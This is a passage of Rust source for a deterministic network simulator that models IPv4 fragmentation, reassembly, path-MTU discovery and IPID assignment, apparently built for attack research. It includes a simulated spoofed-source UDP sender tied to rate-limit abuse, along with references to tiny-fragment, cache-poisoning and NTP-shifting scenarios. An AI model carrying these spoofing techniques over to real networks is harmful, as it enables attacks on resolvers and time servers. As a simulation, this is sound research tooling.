    fn on_icmp(&mut self, _ctx: &mut Ctx<'_>, _from: Ipv4Addr, _msg: &IcmpMessage) {}
    /// A timer set via [`Ctx::set_timer`] fired.
    fn on_timer(&mut self, _ctx: &mut Ctx<'_>, _token: TimerToken) {}
}

/// Per-destination IPID counter plus its last-use tick (for LRU eviction).
#[derive(Debug, Clone, Copy)]
struct IpidSlot {
    counter: u16,
    tick: u64,
}

/// Per-host network stack: fragmentation on send, reassembly and
/// verification on receive, PMTUD bookkeeping, IPID assignment.
///
/// Laid out structure-of-arrays style across the host slab: the scalar
/// state the event loop touches per packet (`StackHot`) sits inline in
/// the slot, while the caches and config a packet only needs in the
/// uncommon cases (fragments pending, PMTU learned, per-destination IPID)
/// live behind one pointer in `StackCold`. A host slab entry is 48 B —
/// 21 hosts per 1 KiB of cache — instead of the several hundred bytes the
/// inline caches used to cost.
#[derive(Debug)]
pub struct NetStack {
    hot: StackHot,
    cold: Box<StackCold>,
}

/// The per-packet scalar state of a stack, kept inline in the host slab.
///
/// The mirrored flags exist so the common case — no fragments pending, no
/// path MTU learned — never dereferences `StackCold`: they are updated
/// whenever the cold state they summarise changes, and a conservatively
/// stale `true` only costs the dereference (never correctness).
#[derive(Debug)]
struct StackHot {
    /// Compact [`OsProfile::ipid`] discriminant (`IPID_*` below). The
    /// per-destination modes carry a fourth state: "the counter for the
    /// single tracked destination is cached inline" — the common
    /// one-peer-conversation case assigns IPIDs without touching the cold
    /// map at all.
    ipid_mode: u8,
    /// The inline IPID counter: the global-sequential counter, or (in
    /// [`IPID_PER_DST_CACHED`] mode) the cached per-destination counter.
    ipid_counter: u16,
    /// Destination the cached per-destination counter belongs to.
    ipid_cached_dst: u32,
    /// Copy of [`OsProfile::interface_mtu`].
    interface_mtu: u16,
    /// Copy of [`OsProfile::min_fragment_size`].
    min_fragment_size: u16,
    /// Copy of [`OsProfile::accept_fragments`].
    accept_fragments: bool,
    /// True once the PMTU cache may hold entries (set by frag-needed).
    pmtu_used: bool,
    /// True while the defrag cache may hold pending reassemblies.
    frag_pending: bool,
}

/// [`StackHot::ipid_mode`]: one global sequential counter.
const IPID_GLOBAL: u8 = 0;
/// [`StackHot::ipid_mode`]: uniformly random IPIDs.
const IPID_RANDOM: u8 = 1;
/// [`StackHot::ipid_mode`]: per-destination counters, all in the cold map.
const IPID_PER_DST: u8 = 2;
/// [`StackHot::ipid_mode`]: per-destination counters, and the map's single
/// entry is cached in [`StackHot::ipid_counter`]/[`StackHot::ipid_cached_dst`]
/// (the map entry's counter is stale until the cache is flushed back).
const IPID_PER_DST_CACHED: u8 = 3;

/// The cold half of a [`NetStack`]: per-host config and the caches only
/// touched when their hot-side summary flag says so.
#[derive(Debug)]
struct StackCold {
    profile: OsProfile,
    defrag: DefragCache,
    pmtu: PmtuCache,
    ipid_per_dst: FastMap<Ipv4Addr, IpidSlot>,
    /// LRU order of `ipid_per_dst` accesses, lazily cleaned: entries whose
    /// tick no longer matches the map are stale and skipped on eviction.
    ipid_lru: VecDeque<(u64, Ipv4Addr)>,
    ipid_tick: u64,
    ipid_evictions: u64,
    /// Per-host drop taxonomy: every discarded packet names its reason.
    drops: DropCounts,
}

// The slab is the SoA hot lane: a slot must stay within one cache-line
// pair. 48 = 4 (addr) + 16 (host vtable fat pointer) + 16 (StackHot,
// padded) + 8 (cold pointer) + padding.
const _: () = assert!(std::mem::size_of::<StackHot>() <= 16, "StackHot grew past 16 bytes");
const _: () = assert!(std::mem::size_of::<NetStack>() <= 24, "NetStack grew past 24 bytes");
const _: () = assert!(std::mem::size_of::<HostSlot>() <= 48, "HostSlot grew past 48 bytes");

/// What a stack hands up after processing an arriving packet.
#[derive(Debug)]
pub enum StackOutput {
    /// A complete UDP datagram.
    Udp(Datagram),
    /// An ICMP message (PMTU bookkeeping already applied).
    Icmp {
        /// Claimed sender of the ICMP message.
        from: Ipv4Addr,
        /// The decoded message.
        msg: IcmpMessage,
    },
}

/// Explained outcome of [`NetStack::receive_counted`]: what became of an
/// arriving packet, with every discard naming its [`DropReason`].
#[derive(Debug)]
pub enum ReceiveOutcome {
    /// The packet produced something for the host.
    Delivered {
        /// What to hand up.
        output: StackOutput,
        /// Whether delivery completed a reassembly (vs an unfragmented
        /// passthrough) — the [`obs::kind::FRAG_REASSEMBLED`] trace signal.
        reassembled: bool,
    },
    /// A fragment was stored; its datagram is still incomplete.
    Pending,
    /// The packet was discarded; the reason was counted per host and in
    /// the caller-supplied global [`DropCounts`].
    Dropped(DropReason),
}

/// Maps a UDP decode failure onto the verification slice of the taxonomy.
fn verify_drop_reason(err: &WireError) -> DropReason {
    match err {
        WireError::Truncated { .. } => DropReason::UdpTruncated,
        WireError::LengthMismatch { .. } => DropReason::UdpLengthMismatch,
        WireError::BadChecksum { .. } => DropReason::UdpBadChecksum,
        _ => DropReason::UdpTruncated,
    }
}

impl NetStack {
    /// Creates a stack for the given OS profile.
    pub fn new(profile: OsProfile) -> Self {
        let ipid_start = match profile.ipid {
            IpidMode::GlobalSequential { start } | IpidMode::PerDestination { start } => start,
            IpidMode::Random => 0,
        };
        // Pre-size the per-destination IPID table to its first plateau so
        // steady traffic towards a handful of peers never rehashes.
        let ipid_cap = match profile.ipid {
            IpidMode::PerDestination { .. } => profile.ipid_cache_cap.min(16),
            _ => 0,
        };
        NetStack {
            hot: StackHot {
                ipid_mode: match profile.ipid {
                    IpidMode::GlobalSequential { .. } => IPID_GLOBAL,
                    IpidMode::Random => IPID_RANDOM,
                    IpidMode::PerDestination { .. } => IPID_PER_DST,
                },
                ipid_counter: ipid_start,
                ipid_cached_dst: 0,
                interface_mtu: profile.interface_mtu,
                min_fragment_size: profile.min_fragment_size,
                accept_fragments: profile.accept_fragments,
                pmtu_used: false,
                frag_pending: false,
            },
            // simlint: allow(hot-alloc) — cold constructor: one boxed
            // cold half per host, at registration time.
            cold: Box::new(StackCold {
                defrag: DefragCache::new(profile.defrag),
                pmtu: PmtuCache::new(),
                ipid_per_dst: crate::fasthash::map_with_capacity(ipid_cap),
                ipid_lru: VecDeque::new(),
                ipid_tick: 0,
                ipid_evictions: 0,
                drops: DropCounts::default(),
                profile,
            }),
        }
    }

    /// The profile this stack models.
    pub fn profile(&self) -> &OsProfile {
        &self.cold.profile
    }

    /// Assigns the IPID for the next packet towards `dst`.
    #[inline]
    pub fn next_ipid<R: Rng + ?Sized>(&mut self, dst: Ipv4Addr, rng: &mut R) -> u16 {
        match self.hot.ipid_mode {
            IPID_PER_DST_CACHED if self.hot.ipid_cached_dst == u32::from(dst) => {
                // The single tracked destination again: counter lives
                // inline, no cold-map traffic at all.
                let id = self.hot.ipid_counter;
                self.hot.ipid_counter = id.wrapping_add(1);
                id
            }
            IPID_GLOBAL => {
                let id = self.hot.ipid_counter;
                self.hot.ipid_counter = id.wrapping_add(1);
                id
            }
            IPID_RANDOM => rng.random(),
            _ => self.next_ipid_per_dst_slow(dst),
        }
    }

    /// The per-destination miss path: flushes the inline cache back into
    /// the map, runs the exact LRU-bounded algorithm, and re-caches the
    /// counter inline whenever the map is back down to a single tracked
    /// destination. Eviction requires `len > cap >= 1`, i.e. at least two
    /// tracked destinations, so a cached (single-entry) stack can never
    /// owe an eviction — deferring its map/LRU bookkeeping to the next
    /// miss changes no observable ID, victim, or eviction count.
    fn next_ipid_per_dst_slow(&mut self, dst: Ipv4Addr) -> u16 {
        if self.hot.ipid_mode == IPID_PER_DST_CACHED {
            let cached_dst = Ipv4Addr::from(self.hot.ipid_cached_dst);
            let counter = self.hot.ipid_counter;
            let cold = &mut *self.cold;
            cold.ipid_tick += 1;
            let tick = cold.ipid_tick;
            let slot = cold.ipid_per_dst.get_mut(&cached_dst).expect("cached dst is tracked");
            // One flush summarises the whole cached streak: the counter
            // catches up and the destination keeps its most-recently-used
            // rank (it *was* the last one touched before this miss).
            slot.counter = counter;
            slot.tick = tick;
            cold.ipid_lru.push_back((tick, cached_dst));
            self.hot.ipid_mode = IPID_PER_DST;
        }
        let IpidMode::PerDestination { start } = self.cold.profile.ipid else {
            unreachable!("slow path only runs in per-destination mode")
        };
        let id = self.next_ipid_per_dst(dst, start);
        if self.cold.ipid_per_dst.len() == 1 {
            // Sole tracked destination (necessarily `dst`): move its
            // counter inline until a different destination shows up.
            self.hot.ipid_mode = IPID_PER_DST_CACHED;
            self.hot.ipid_cached_dst = u32::from(dst);
            self.hot.ipid_counter = id.wrapping_add(1);
        }
        id
    }

    /// Per-destination counter with an LRU-bounded table: spoofed-source
    /// sprays touch unbounded destination sets, so the map is capped at
    /// [`OsProfile::ipid_cache_cap`] and the least-recently-used counter is
    /// evicted (and counted) past the cap.
    fn next_ipid_per_dst(&mut self, dst: Ipv4Addr, start: u16) -> u16 {
        let cold = &mut *self.cold;
        cold.ipid_tick += 1;
        let tick = cold.ipid_tick;
        let slot = cold.ipid_per_dst.entry(dst).or_insert(IpidSlot { counter: start, tick });
        let id = slot.counter;
        slot.counter = slot.counter.wrapping_add(1);
        slot.tick = tick;
        cold.ipid_lru.push_back((tick, dst));
        let cap = cold.profile.ipid_cache_cap.max(1);
        if cold.ipid_per_dst.len() > cap {
            while let Some((t, addr)) = cold.ipid_lru.pop_front() {
                if cold.ipid_per_dst.get(&addr).is_some_and(|s| s.tick == t) {
                    cold.ipid_per_dst.remove(&addr);
                    cold.ipid_evictions += 1;
                    break;
                }
            }
        }
        // Compact the lazily-cleaned queue before stale entries dominate.
        if cold.ipid_lru.len() > 2 * cap + 64 {
            let map = &cold.ipid_per_dst;
            cold.ipid_lru.retain(|(t, addr)| map.get(addr).is_some_and(|s| s.tick == *t));
        }
        id
    }

    /// Destinations currently tracked by the per-destination IPID table.
    pub fn ipid_tracked_destinations(&self) -> usize {
        self.cold.ipid_per_dst.len()
    }

    /// IPID counters evicted past [`OsProfile::ipid_cache_cap`].
    pub fn ipid_evictions(&self) -> u64 {
        self.cold.ipid_evictions
    }

    /// Encodes and (if needed) fragments a UDP datagram for the wire,
    /// honouring the cached path MTU towards `dst`.
    pub fn send_udp<R: Rng + ?Sized>(
        &mut self,
        now: SimTime,
        src: Ipv4Addr,
        dst: Ipv4Addr,
        dgram: &UdpDatagram,
        rng: &mut R,
    ) -> Vec<Ipv4Packet> {
        // simlint: allow(hot-alloc) — convenience wrapper for tests and
        // examples; the dispatch loop uses `send_udp_into` with scratch.
        let mut out = Vec::new();
        self.send_udp_into(now, src, dst, dgram, rng, &mut out);
        out
    }

    /// [`NetStack::send_udp`] into a caller-supplied buffer (appended):
    /// the simulator reuses one buffer across sends, so the steady-state
    /// send path allocates only the wire bytes themselves.
    pub fn send_udp_into<R: Rng + ?Sized>(
        &mut self,
        now: SimTime,
        src: Ipv4Addr,
        dst: Ipv4Addr,
        dgram: &UdpDatagram,
        rng: &mut R,
        out: &mut Vec<Ipv4Packet>,
    ) {
        let Ok(udp_bytes) = dgram.encode(src, dst) else {
            return;
        };
        let id = self.next_ipid(dst, rng);
        let pkt = Ipv4Packet::udp(src, dst, id, udp_bytes);
        // `pmtu_used` is monotonic: until the first frag-needed arrives the
        // PMTU cache is empty and the interface MTU applies, without
        // touching the cold half at all.
        let mtu = if self.hot.pmtu_used {
            self.cold.pmtu.mtu_towards(now, dst, self.hot.interface_mtu)
        } else {
            self.hot.interface_mtu
        };
        let _ = fragment_into(pkt, mtu, out);
    }

    /// Processes an arriving packet: filters fragments per policy,
    /// reassembles, verifies UDP checksums, applies PMTUD updates.
    /// Returns what should be handed to the host, if anything.
    ///
    /// Takes the packet by value: the stack owns it from here (the
    /// zero-clone delivery path), storing fragments and slicing payloads
    /// out of the packet's shared buffer instead of copying.
    pub fn receive(&mut self, now: SimTime, pkt: Ipv4Packet) -> Option<StackOutput> {
        let mut scratch = DropCounts::default();
        match self.receive_counted(now, pkt, &mut scratch) {
            ReceiveOutcome::Delivered { output, .. } => Some(output),
            ReceiveOutcome::Pending | ReceiveOutcome::Dropped(_) => None,
        }
    }

    /// [`NetStack::receive`] with the explained outcome: every discarded
    /// packet names a [`DropReason`], counted both in this host's
    /// [`NetStack::drop_counts`] and in the caller's `global` aggregate
    /// (the simulator passes [`SimStats::drops`], keeping the aggregate
    /// incremental — no per-snapshot re-summing).
    pub fn receive_counted(
        &mut self,
        now: SimTime,
        pkt: Ipv4Packet,
        global: &mut DropCounts,
    ) -> ReceiveOutcome {
        let mut reassembled = false;
        let complete = if pkt.is_fragment() {
            if !self.hot.accept_fragments {
                return self.count_drop(global, DropReason::NoFragSupport);
            }
            // Size filtering applies to non-final fragments: a datagram's
            // last fragment is legitimately small, but a small *leading*
            // fragment is the signature of the tiny-fragment attacks that
            // filtering resolvers (Table V) drop.
            if pkt.more_fragments && pkt.wire_len() < usize::from(self.hot.min_fragment_size) {
                return self.count_drop(global, DropReason::TinyFragment);
            }
            match self.defrag_insert(now, pkt, global) {
                FragInsert::Passthrough(p) => p,
                FragInsert::Reassembled(p) => {
                    reassembled = true;
                    p
                }
                FragInsert::Stored => return ReceiveOutcome::Pending,
                FragInsert::CapFull => return self.count_drop(global, DropReason::DefragCapFull),
                FragInsert::Duplicate => {
                    return self.count_drop(global, DropReason::DuplicateFragment)
                }
            }
        } else if self.hot.frag_pending {
            // Pending reassemblies: route through the cache so expiry runs
            // and the flag refreshes. Non-fragments always pass through.
            match self.defrag_insert(now, pkt, global) {
                FragInsert::Passthrough(p) => p,
                _ => unreachable!("non-fragments pass through the defrag cache"),
            }
        } else {
            // Fast path for the common case: an unfragmented packet with an
            // idle defrag cache passes straight through. Nothing can be
            // pending (the flag is refreshed on every cache touch) and an
            // empty cache has nothing to expire, so skipping it is
            // behaviourally identical — and skips the cold half entirely.
            pkt
        };
        match complete.protocol {
            PROTO_UDP => {
                match UdpDatagram::decode_bytes(&complete.payload, complete.src, complete.dst) {
                    Ok(dgram) => ReceiveOutcome::Delivered {
                        output: StackOutput::Udp(Datagram {
                            src: complete.src,
                            dst: complete.dst,
                            src_port: dgram.src_port,
                            dst_port: dgram.dst_port,
                            payload: dgram.payload,
                        }),
                        reassembled,
                    },
                    Err(err) => self.count_drop(global, verify_drop_reason(&err)),
                }
            }
            PROTO_ICMP => match IcmpMessage::decode(&complete.payload) {
                Ok(msg) => {
                    if let IcmpMessage::FragmentationNeeded { mtu, original } = &msg {
                        self.apply_frag_needed(now, complete.dst, *mtu, original);
                    }
                    ReceiveOutcome::Delivered {
                        output: StackOutput::Icmp { from: complete.src, msg },
                        reassembled,
                    }
                }
                Err(_) => self.count_drop(global, DropReason::IcmpMalformed),
            },
            _ => self.count_drop(global, DropReason::UnknownProtocol),
        }
    }

    /// This host's drop taxonomy so far.
    pub fn drop_counts(&self) -> &DropCounts {
        &self.cold.drops
    }

    /// Counts a drop per host and in the caller's aggregate.
    #[inline]
    fn count_drop(&mut self, global: &mut DropCounts, reason: DropReason) -> ReceiveOutcome {
        self.cold.drops.bump(reason);
        global.bump(reason);
        ReceiveOutcome::Dropped(reason)
    }

    /// Routes a packet through the defrag cache and refreshes the hot-side
    /// pending flag from the cache's state afterwards. Reassembly entries
    /// expired by the cache's lazy garbage collection are counted as
    /// [`DropReason::DefragExpired`] here — the one drop that happens
    /// without an arriving packet of its own.
    fn defrag_insert(
        &mut self,
        now: SimTime,
        pkt: Ipv4Packet,
        global: &mut DropCounts,
    ) -> FragInsert {
        let (out, expired) = self.cold.defrag.insert_explained(now, pkt);
        self.hot.frag_pending = self.cold.defrag.pending_reassemblies() > 0;
        if expired > 0 {
            self.cold.drops.add(DropReason::DefragExpired, expired as u64);
            global.add(DropReason::DefragExpired, expired as u64);
        }
        out
    }

    /// Updates the path-MTU cache from an ICMP frag-needed whose embedded
    /// original header claims this host (`self_addr`) sent a packet that did
    /// not fit. Plausibility check: embedded src must equal this host.
    fn apply_frag_needed(&mut self, now: SimTime, self_addr: Ipv4Addr, mtu: u16, original: &Bytes) {
        if original.len() < IPV4_HEADER_LEN {
            return;
        }
        let Ok(embedded) = Ipv4Packet::decode(original) else {
            // Embedded header may be a bare 20-byte header without payload;
            // Ipv4Packet::decode requires total_len <= buffer, so craft a
            // lenient parse of just src/dst.
            let src = Ipv4Addr::new(original[12], original[13], original[14], original[15]);
            let dst = Ipv4Addr::new(original[16], original[17], original[18], original[19]);
            if src == self_addr {
                self.hot.pmtu_used = true;
                let cold = &mut *self.cold;
                cold.pmtu.on_frag_needed(now, dst, mtu, &cold.profile.pmtud);
            }
            return;
        };
        if embedded.src == self_addr {
            self.hot.pmtu_used = true;
            let cold = &mut *self.cold;
            cold.pmtu.on_frag_needed(now, embedded.dst, mtu, &cold.profile.pmtud);
        }
    }

    /// Current effective MTU towards `dst` (testing / introspection).
    pub fn mtu_towards(&mut self, now: SimTime, dst: Ipv4Addr) -> u16 {
        self.cold.pmtu.mtu_towards(now, dst, self.hot.interface_mtu)
    }

    /// Access the defragmentation cache (testing / introspection).
    pub fn defrag(&self) -> &DefragCache {
        &self.cold.defrag
    }
}

/// Deferred effects a host requests during a callback.
///
/// The payload-bearing variants are boxed so the enum stays hot-path
/// small (≤ 32 B asserted below): `apply_actions` drains a `Vec<Action>`
/// per event, and small variants keep that traffic in a couple of cache
/// lines. The boxes for the common sends are recycled via [`BoxPool`].
#[derive(Debug)]
enum Action {
    SendUdp { dst: Ipv4Addr, dgram: Box<UdpDatagram> },
    SendIcmp { dst: Ipv4Addr, msg: Box<IcmpMessage> },
    SendRaw(Box<Ipv4Packet>),
    SetTimer { at: SimTime, token: TimerToken },
}

// The dispatch enums ride the hottest loops in the workspace; keep them
// small enough that moving one is a couple of register pairs.
const _: () = assert!(std::mem::size_of::<Action>() <= 32, "Action grew past 32 bytes");
const _: () = assert!(std::mem::size_of::<EventKind>() <= 32, "EventKind grew past 32 bytes");

/// Recycled `Box` allocations for the boxed hot-enum variants: a delivered
/// packet's box is reused for the next transmitted one, so boxing the
/// variants costs no steady-state allocation.
#[derive(Debug, Default)]
// The boxes ARE the resource being pooled: each retained `Box` is a live
// allocation waiting to carry the next event, so `Vec<Box<_>>` is exactly
// right here despite the usual lint.
#[allow(clippy::vec_box)]
struct BoxPool {
    pkts: Vec<Box<Ipv4Packet>>,
    dgrams: Vec<Box<UdpDatagram>>,
}

/// Upper bound on retained boxes per kind; anything beyond the high-water
/// mark of in-flight events is just memory.
const BOX_POOL_CAP: usize = 4096;

fn blank_pkt() -> Ipv4Packet {
    Ipv4Packet::udp(Ipv4Addr::UNSPECIFIED, Ipv4Addr::UNSPECIFIED, 0, Bytes::new())
}

fn blank_dgram() -> UdpDatagram {
    UdpDatagram::new(0, 0, Bytes::new())
}

impl BoxPool {
    /// Boxes `pkt`, reusing a recycled box when one is available.
    #[inline]
    fn pkt(&mut self, pkt: Ipv4Packet) -> Box<Ipv4Packet> {
        match self.pkts.pop() {
            Some(mut b) => {
                *b = pkt;
                b
            }
            // simlint: allow(hot-alloc) — pool miss: first few sends only,
            // then every box recirculates.
            None => Box::new(pkt),
        }
    }

    /// Boxes `dgram`, reusing a recycled box when one is available.
    #[inline]
    fn dgram(&mut self, dgram: UdpDatagram) -> Box<UdpDatagram> {
        match self.dgrams.pop() {
            Some(mut b) => {
                *b = dgram;
                b
            }
            // simlint: allow(hot-alloc) — pool miss: first few sends only,
            // then every box recirculates.
            None => Box::new(dgram),
        }
    }

    /// Takes the packet out of its box and parks the box for reuse.
    #[inline]
    fn unbox_pkt(&mut self, mut b: Box<Ipv4Packet>) -> Ipv4Packet {
        let pkt = std::mem::replace(&mut *b, blank_pkt());
        if self.pkts.len() < BOX_POOL_CAP {
            self.pkts.push(b);
        }
        pkt
    }

    /// Takes the datagram out of its box and parks the box for reuse.
    #[inline]
    fn unbox_dgram(&mut self, mut b: Box<UdpDatagram>) -> UdpDatagram {
        let dgram = std::mem::replace(&mut *b, blank_dgram());
        if self.dgrams.len() < BOX_POOL_CAP {
            self.dgrams.push(b);
        }
        dgram
    }
}

/// The capability handle hosts use inside callbacks.
pub struct Ctx<'a> {
    now: SimTime,
    addr: Ipv4Addr,
    rng: &'a mut SmallRng,
    actions: &'a mut Vec<Action>,
    boxes: &'a mut BoxPool,
}

impl<'a> Ctx<'a> {
    /// Current simulated time.
    pub fn now(&self) -> SimTime {
        self.now
    }

    /// This host's address.
    pub fn addr(&self) -> Ipv4Addr {
        self.addr
    }

    /// The simulation's deterministic RNG.
    pub fn rng(&mut self) -> &mut SmallRng {
        self.rng
    }

    /// Sends a UDP datagram from this host (fragmented per the stack's path
    /// MTU towards `dst`).
    pub fn send_udp(&mut self, dst: Ipv4Addr, src_port: u16, dst_port: u16, payload: Bytes) {
        let dgram = self.boxes.dgram(UdpDatagram::new(src_port, dst_port, payload));
        self.actions.push(Action::SendUdp { dst, dgram });
    }

    /// Sends an ICMP message from this host.
    pub fn send_icmp(&mut self, dst: Ipv4Addr, msg: IcmpMessage) {
        // simlint: allow(hot-alloc) — ICMP is the rare error path (frag
        // needed, port unreachable), not the per-event datagram path.
        self.actions.push(Action::SendIcmp { dst, msg: Box::new(msg) });
    }

    /// Injects a raw, fully-formed IPv4 packet (or fragment). The packet's
    /// `src` field may be spoofed; physical transit still originates at this
    /// host, so link latency/loss are those of this host's path to
    /// `pkt.dst`.
    pub fn send_raw(&mut self, pkt: Ipv4Packet) {
        let pkt = self.boxes.pkt(pkt);
        self.actions.push(Action::SendRaw(pkt));
    }

    /// Sends a UDP datagram with a **spoofed source address**: the UDP
    /// checksum is computed over the spoofed pseudo-header so the victim's
    /// stack accepts it. Used for the rate-limit abuse of §IV-B2.
    pub fn send_udp_spoofed(
        &mut self,
        spoofed_src: Ipv4Addr,
        dst: Ipv4Addr,
        src_port: u16,
        dst_port: u16,
        payload: Bytes,
    ) {
        let dgram = UdpDatagram::new(src_port, dst_port, payload);
        if let Ok(bytes) = dgram.encode(spoofed_src, dst) {
            let id = self.rng.random();
            let pkt = self.boxes.pkt(Ipv4Packet::udp(spoofed_src, dst, id, bytes));
            self.actions.push(Action::SendRaw(pkt));
        }
    }

    /// Arms a one-shot timer `delay` from now; `token` is returned in
    /// [`Host::on_timer`].
    pub fn set_timer(&mut self, delay: SimDuration, token: TimerToken) {
        self.actions.push(Action::SetTimer { at: self.now + delay, token });
    }
}

/// Aggregate counters, useful for assertions in tests and experiments.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, serde::Serialize)]
pub struct SimStats {
    /// IPv4 packets (incl. fragments) put on the wire.
    pub packets_sent: u64,
    /// Packets dropped by link loss.
    pub packets_lost: u64,
    /// Packets that arrived at a registered host.
    pub packets_delivered: u64,
    /// Packets addressed to nobody.
    pub packets_unrouted: u64,
    /// Complete UDP datagrams handed to hosts.
    pub datagrams_delivered: u64,
    /// Datagrams dropped for failing the UDP checksum or filters.
    pub datagrams_dropped: u64,
    /// Exhaustive per-reason drop taxonomy, aggregated incrementally over
    /// all host stacks (each host also keeps its own copy, see
    /// [`NetStack::drop_counts`]). No receive-path branch discards a packet
    /// without naming a reason here.
    pub drops: DropCounts,
    /// Timer firings.
    pub timers_fired: u64,
    /// Events dispatched by the loop (arrivals + timers + starts).
    pub events_dispatched: u64,
    /// Per-destination IPID counters evicted past the cache cap, summed
    /// over all host stacks.
    pub ipid_evictions: u64,
    /// High-water mark of the event queue (scheduled, not yet dispatched).
    pub peak_queue_depth: u64,
    /// Buffer-pool serves that avoided a heap allocation (inline storage
    /// or a recycled backing store), read from the thread-local `bytes`
    /// pool. [`Simulator::new`] resets the pool, so this is a pure
    /// function of the simulation (same for any worker count).
    pub pool_hits: u64,
    /// Buffer-pool serves that had to allocate a fresh backing store.
    pub pool_misses: u64,
}

/// The payload-bearing `Arrival` variant boxes its packet (recycled via
/// [`BoxPool`]) so the enum stays within 32 bytes — events are memcpy'd
/// through the timing wheel's cascade, and small events keep that cheap.
#[derive(Debug, PartialEq, Eq)]
enum EventKind {
    Start {
        host: HostId,
    },
    Arrival {
        /// Destination resolved at transmit time; `None` when the address
        /// had no registered host yet (re-resolved once at delivery).
        dst: Option<HostId>,
        pkt: Box<Ipv4Packet>,
    },
    Timer {
        host: HostId,
        token: TimerToken,
    },
}

/// One slab slot: a host, its stack, and the address they answer to.
/// Slots pack the per-event scalar state contiguously (see [`NetStack`]);
/// the 48-B budget is asserted next to `StackHot`.
struct HostSlot {
    addr: Ipv4Addr,
    host: Box<dyn Host>,
    stack: NetStack,
}

// Ripple asserts down the move path: a `Datagram` is cloned into host
// callbacks and the packet/datagram structs move wire → stack → host, so
// the `Bytes` diet (72 → 24 B) must show up here too or it bought nothing.
const _: () = assert!(std::mem::size_of::<Datagram>() <= 40, "Datagram grew past 40 bytes");

/// Sizes of the types moved per event on the hot path, including the
/// crate-private dispatch enums and slab slot: the bench records these in
/// `BENCH_engine.json` so layout regressions are visible in the perf
/// trajectory, not just as a compile error.
pub fn hot_struct_sizes() -> [(&'static str, usize); 8] {
    use std::mem::size_of;
    [
        ("Bytes", size_of::<Bytes>()),
        ("Ipv4Packet", size_of::<Ipv4Packet>()),
        ("UdpDatagram", size_of::<UdpDatagram>()),
        ("Datagram", size_of::<Datagram>()),
        ("Action", size_of::<Action>()),
        ("EventKind", size_of::<EventKind>()),
        ("StackHot", size_of::<StackHot>()),
        ("HostSlot", size_of::<HostSlot>()),
    ]
}

/// The deterministic discrete-event simulator.
///
/// ```
/// use netsim::prelude::*;
///
/// struct Echo;
/// impl Host for Echo {
///     fn on_datagram(&mut self, ctx: &mut Ctx<'_>, d: &Datagram) {
///         ctx.send_udp(d.src, d.dst_port, d.src_port, d.payload.clone());
///     }
/// }
///
/// let mut sim = Simulator::new(7);
/// sim.add_host("10.0.0.1".parse().unwrap(), OsProfile::linux(), Box::new(Echo)).unwrap();
/// sim.run_for(SimDuration::from_secs(1));
/// ```
pub struct Simulator {
    now: SimTime,
    queue: TimingWheel<EventKind>,
    slots: Vec<HostSlot>,
    addr_to_id: FastMap<Ipv4Addr, HostId>,
    topology: Topology,
    rng: SmallRng,
    stats: SimStats,
    /// Reusable action buffer handed to host callbacks (no per-event
    /// allocation on the dispatch path).
    scratch: Vec<Action>,
    /// Reusable fragment buffer for the send path (no per-send allocation).
    pkt_scratch: Vec<Ipv4Packet>,
    /// Scratch ring for batched dispatch: a whole same-instant wheel run is
    /// drained here, then dispatched front to back.
    batch: Vec<EventKind>,
    /// Events drained into `batch` but not yet dispatched; they still count
    /// as "scheduled, not dispatched" for [`SimStats::peak_queue_depth`].
    batch_pending: u64,
    /// Batched slot-drain dispatch on (default) or the one-event-at-a-time
    /// reference loop (kept for the differential test suite).
    batched: bool,
    /// Recycled boxes for the boxed `Action`/`EventKind` variants.
    boxes: BoxPool,
    /// Per-origin last-destination cache, indexed by sender [`HostId`]:
    /// the address the host last sent to and the id it resolved to. Hosts
    /// overwhelmingly re-send to one peer (a forwarder's next hop, a
    /// stub's resolver, the resolver's nameserver), so this turns the
    /// per-send address lookup into an indexed compare. Safe because the
    /// address table is insert-only — a resolved id never goes stale.
    route_cache: Vec<(Ipv4Addr, HostId)>,
    max_events: u64,
    /// The flight recorder, compiled in only under the `trace` feature:
    /// the default build carries no ring and no stores (perfgate holds the
    /// untraced engine to its baseline).
    #[cfg(feature = "trace")]
    recorder: obs::FlightRecorder,
}

impl Simulator {
    /// Creates a simulator with a deterministic RNG seed and a uniform WAN
    /// topology.
    ///
    /// Resets the thread-local `bytes` buffer pool: allocation behaviour —
    /// and the [`SimStats::pool_hits`]/[`SimStats::pool_misses`] counters —
    /// then depend only on this simulation, never on what ran earlier on
    /// the thread (the determinism contract for worker-count-independent
    /// sweeps).
    pub fn new(seed: u64) -> Self {
        bytes::pool::reset();
        Simulator {
            now: SimTime::ZERO,
            queue: TimingWheel::new(),
            // simlint: allow(hot-alloc) — cold constructor: empty.
            slots: Vec::new(),
            addr_to_id: FastMap::default(),
            topology: Topology::default(),
            rng: SmallRng::seed_from_u64(seed),
            stats: SimStats::default(),
            // simlint: allow(hot-alloc) — cold constructor: empty.
            scratch: Vec::new(),
            // simlint: allow(hot-alloc) — cold constructor: empty.
            pkt_scratch: Vec::new(),
            // simlint: allow(hot-alloc) — cold constructor: empty.
            batch: Vec::new(),
            batch_pending: 0,
            batched: true,
            boxes: BoxPool::default(),
            // simlint: allow(hot-alloc) — cold constructor: empty.
            route_cache: Vec::new(),
            max_events: u64::MAX,
            // simlint: allow(hot-alloc) — cold constructor: the ring is
            // allocated once here so recording never allocates.
            #[cfg(feature = "trace")]
            recorder: obs::FlightRecorder::new(obs::DEFAULT_CAPACITY),
        }
    }

    /// Creates a simulator with an explicit topology.
    pub fn with_topology(seed: u64, topology: Topology) -> Self {
        Simulator { topology, ..Simulator::new(seed) }
    }

    /// Current simulated time.
    pub fn now(&self) -> SimTime {
        self.now
    }

    /// Aggregate counters. IPID evictions and the drop taxonomy are
    /// aggregated incrementally at their source sites, so a snapshot is
    /// O(1) in the host count; the buffer-pool counters are read from the
    /// thread-local `bytes` pool, which [`Simulator::new`] reset — they
    /// cover allocations made on this thread since this simulator was
    /// built (valid for the most recently constructed simulator on the
    /// thread, i.e. every sweep and test in this workspace).
    pub fn stats(&self) -> SimStats {
        let mut stats = self.stats;
        let pool = bytes::pool::stats();
        stats.pool_hits = pool.freelist_hits + pool.inline_hits;
        stats.pool_misses = pool.misses;
        stats
    }

    /// Records a trace event stamped with the current simulated time.
    /// Compiles to nothing without the `trace` feature.
    #[cfg(feature = "trace")]
    #[inline]
    fn trace(&mut self, host: u32, kind: u16, a: u64, b: u64) {
        self.recorder.record(self.now.as_nanos(), host, kind, a, b);
    }

    /// Application-layer trace note (e.g. [`obs::kind::CACHE_POISONED`],
    /// [`obs::kind::NTP_SHIFTED`] from the scenario layer): always
    /// callable, recorded only when the `trace` feature is compiled in.
    /// Stamped with the current simulated time and no host context.
